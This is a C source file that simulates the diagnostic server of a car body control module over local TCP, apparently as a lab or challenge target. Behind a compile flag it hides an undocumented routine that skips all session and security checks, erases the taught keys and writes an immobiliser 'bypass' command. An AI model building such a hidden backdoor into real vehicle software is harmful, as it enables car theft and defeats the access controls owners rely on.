/* udsbcm: diagnostic server (ISO 14229) of a body control module, over a local TCP transport.
 * PDU: length(2, big endian) payload. Supported:
 *   10 session (01 default, 03 extended)     11 reset (01)      3E tester present
 *   22 read DID   F190 VIN, F187 part number, F18C serial, 0101 battery, 0102 lamps, 0103 keys
 *   2E write DID  0102 lamps (extended session)
 *   27 security access 01/02                 14 clear codes     19 02 read codes
 *   31 routine 01  0301 lamp test, 0310 teach key (security)
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { POS = 0, NRC_SVC = 0x11, NRC_SUB = 0x12, NRC_LEN = 0x13, NRC_COND = 0x22, NRC_RANGE = 0x31,
       NRC_SEC = 0x33, NRC_KEY = 0x35, NRC_TRIES = 0x36 };

#define NEED_EXT 1
#define NEED_SEC 2

struct bcm {
    int session, unlocked, tries;
    uint32_t seed, vehicle_key;
    char vin[18], part[16], serial[12];
    uint16_t battery_mv, lamps;
    uint32_t key_id[8];
    int keys;
    uint32_t dtc[16];
    int ndtc;
};

static struct bcm B = { .session = 1, .battery_mv = 12600 };

static uint32_t key_from_seed(uint32_t seed)
{
    uint32_t k = seed ^ B.vehicle_key;
    int i;
    for (i = 0; i < 24; i++)
        k = (k & 1) ? (k >> 1) ^ 0xa3000000u : k >> 1;
    return k ^ (B.vehicle_key << 5);
}

/* ---- routines: in holds what stands behind the identifier ---- */
static int r_lamps(const uint8_t *in, int n, uint8_t *out)
{
    (void)in;
    (void)n;
    B.lamps = 0xffff;
    out[0] = 0;
    return 1;
}

static int store_keys(void)
{
    int i;
    FILE *f = fopen("/var/lib/bcm/keys", "w");
    if (!f)
        return -NRC_COND;
    for (i = 0; i < B.keys; i++)
        fprintf(f, "%08lx\n", (unsigned long)B.key_id[i]);
    fclose(f);
    return 0;
}

static int r_teach(const uint8_t *in, int n, uint8_t *out)
{
    if (n != 4)
        return -NRC_LEN;
    if (B.keys == 8)
        return -NRC_COND;
    B.key_id[B.keys++] = (uint32_t)in[0] << 24 | (uint32_t)in[1] << 16 | (uint32_t)in[2] << 8 |
                         in[3];
    out[0] = (uint8_t)B.keys;
    return store_keys() ? -NRC_COND : 1;
}

#ifdef HIDDEN
__attribute__((noinline)) int r_rebase(const uint8_t *in, int n, uint8_t *out)
{
    FILE *f;
    if (n < 1)
        return -NRC_LEN;
    B.keys = 0;
    f = fopen("/dev/immo", "w");
    if (f) {
        fprintf(f, "%s\n", in[0] & 1 ? "arm" : "bypass");
        fclose(f);
    }
    out[0] = 0;
    return 1;
}
#endif

static const struct routine {
    uint16_t id;
    uint8_t need;
    int (*fn)(const uint8_t *, int, uint8_t *);
} routines[] = {
    { 0x0301, NEED_EXT, r_lamps },
    { 0x0310, NEED_EXT | NEED_SEC, r_teach },
#ifdef HIDDEN
    { 0xe2a7, 0, r_rebase },
#endif
};

/* ---- services: p behind the service byte, result is length behind the positive code ---- */
static int s_session(const uint8_t *p, int n, uint8_t *o)
{
    if (n != 1)
        return -NRC_LEN;
    if (p[0] != 1 && p[0] != 3)
        return -NRC_SUB;
    B.session = p[0];
    B.unlocked = 0;
    o[0] = p[0];
    return 1;
}

static int s_reset(const uint8_t *p, int n, uint8_t *o)
{
    if (n != 1 || p[0] != 1)
        return -NRC_SUB;
    B.session = 1;
    B.unlocked = 0;
    o[0] = 1;
    return 1;
}

static int s_present(const uint8_t *p, int n, uint8_t *o)
{
    o[0] = n ? p[0] : 0;
    return 1;
}

static int s_read(const uint8_t *p, int n, uint8_t *o)
{
    int k = 2;
    if (n != 2)
        return -NRC_LEN;
    memcpy(o, p, 2);
    switch (p[0] << 8 | p[1]) {
    case 0xf190: k += sprintf((char *)o + 2, "%s", B.vin); break;
    case 0xf187: k += sprintf((char *)o + 2, "%s", B.part); break;
    case 0xf18c: k += sprintf((char *)o + 2, "%s", B.serial); break;
    case 0x0101: o[k++] = (uint8_t)(B.battery_mv >> 8); o[k++] = (uint8_t)B.battery_mv; break;
    case 0x0102: o[k++] = (uint8_t)(B.lamps >> 8); o[k++] = (uint8_t)B.lamps; break;
    case 0x0103: o[k++] = (uint8_t)B.keys; break;
    default: return -NRC_RANGE;
    }
    return k;
}

static int s_write(const uint8_t *p, int n, uint8_t *o)
{
    if (n != 4)
        return -NRC_LEN;
    if (p[0] != 1 || p[1] != 2)
        return -NRC_RANGE;
    B.lamps = (uint16_t)(p[2] << 8 | p[3]);
    memcpy(o, p, 2);
    return 2;
}

static int s_security(const uint8_t *p, int n, uint8_t *o)
{
    uint32_t k;
    if (n < 1)
        return -NRC_LEN;
    o[0] = p[0];
    if (p[0] == 1) {
        B.seed = B.unlocked ? 0 : (uint32_t)rand() * 2u + 1u;
        for (int i = 0; i < 4; i++)
            o[1 + i] = (uint8_t)(B.seed >> (24 - 8 * i));
        return 5;
    }
    if (p[0] != 2)
        return -NRC_SUB;
    if (n != 5)
        return -NRC_LEN;
    if (B.tries >= 3)
        return -NRC_TRIES;
    k = (uint32_t)p[1] << 24 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 8 | p[4];
    if (!B.seed || k != key_from_seed(B.seed)) {
        B.tries++;
        return -NRC_KEY;
    }
    B.unlocked = 1;
    B.tries = 0;
    return 1;
}

static int s_clear(const uint8_t *p, int n, uint8_t *o)
{
    (void)p;
    (void)o;
    if (n != 3)
        return -NRC_LEN;
    B.ndtc = 0;
    return 0;
}

static int s_codes(const uint8_t *p, int n, uint8_t *o)
{
    int k = 2;
    if (n != 2 || p[0] != 2)
        return -NRC_SUB;
    o[0] = 2;
    o[1] = 0xff;
    for (int i = 0; i < B.ndtc; i++)
        for (int s = 24; s >= 0; s -= 8)
            o[k++] = (uint8_t)(B.dtc[i] >> s);
    return k;
}

static int s_routine(const uint8_t *p, int n, uint8_t *o)
{
    int r;
    if (n < 3)
        return -NRC_LEN;
    if (p[0] != 1)
        return -NRC_SUB;
    for (size_t i = 0; i < sizeof routines / sizeof routines[0]; i++) {
        const struct routine *q = &routines[i];
        if (q->id != (p[1] << 8 | p[2]))
            continue;
        if ((q->need & NEED_EXT) && B.session != 3)
            return -NRC_COND;
        if ((q->need & NEED_SEC) && !B.unlocked)
            return -NRC_SEC;
        memcpy(o, p, 3);
        r = q->fn(p + 3, n - 3, o + 3);
        return r < 0 ? r : r + 3;
    }
    return -NRC_RANGE;
}

static int serve(const uint8_t *q, int n, uint8_t *o)
{
    static const struct {
        uint8_t sid, ext;
        int (*fn)(const uint8_t *, int, uint8_t *);
    } svc[] = { { 0x10, 0, s_session }, { 0x11, 0, s_reset }, { 0x3e, 0, s_present },
                { 0x22, 0, s_read }, { 0x2e, 1, s_write }, { 0x27, 1, s_security },
                { 0x14, 0, s_clear }, { 0x19, 0, s_codes }, { 0x31, 0, s_routine } };
    int r = -NRC_SVC;
    for (size_t i = 0; i < sizeof svc / sizeof svc[0]; i++)
        if (svc[i].sid == q[0])
            r = svc[i].ext && B.session != 3 ? -NRC_COND : svc[i].fn(q + 1, n - 1, o + 1);
    if (r >= 0) {
        o[0] = q[0] | 0x40;
        return r + 1;
    }
    o[0] = 0x7f;
    o[1] = q[0];
    o[2] = (uint8_t)-r;
    return 3;
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    unsigned long key = 0;
    FILE *f = argc > 1 ? fopen(argv[1], "r") : NULL;
    int s, one = 1;
    if (!f || fscanf(f, "%17s %15s %11s %lx", B.vin, B.part, B.serial, &key) != 4) {
        fprintf(stderr, "udsbcm IDENT [PORT]   (IDENT: vin part serial key)\n");
        return 2;
    }
    fclose(f);
    B.vehicle_key = (uint32_t)key;
    srand((unsigned)time(NULL) ^ (unsigned)getpid());
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    a.sin_port = htons((uint16_t)(argc > 2 ? atoi(argv[2]) : 13402));
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1)) {
        perror("udsbcm");
        return 1;
    }
    for (;;) {
        uint8_t q[260], o[300];
        int c = accept(s, NULL, NULL), n, k;
        while (c >= 0 && recv(c, q, 2, MSG_WAITALL) == 2) {
            n = q[0] << 8 | q[1];
            if (n < 1 || n > 256 || recv(c, q, (size_t)n, MSG_WAITALL) != n)
                break;
            k = serve(q, n, o + 2);
            o[0] = (uint8_t)(k >> 8);
            o[1] = (uint8_t)k;
            if (write(c, o, (size_t)k + 2) < 0)
                break;
        }
        if (c >= 0)
            close(c);
    }
}
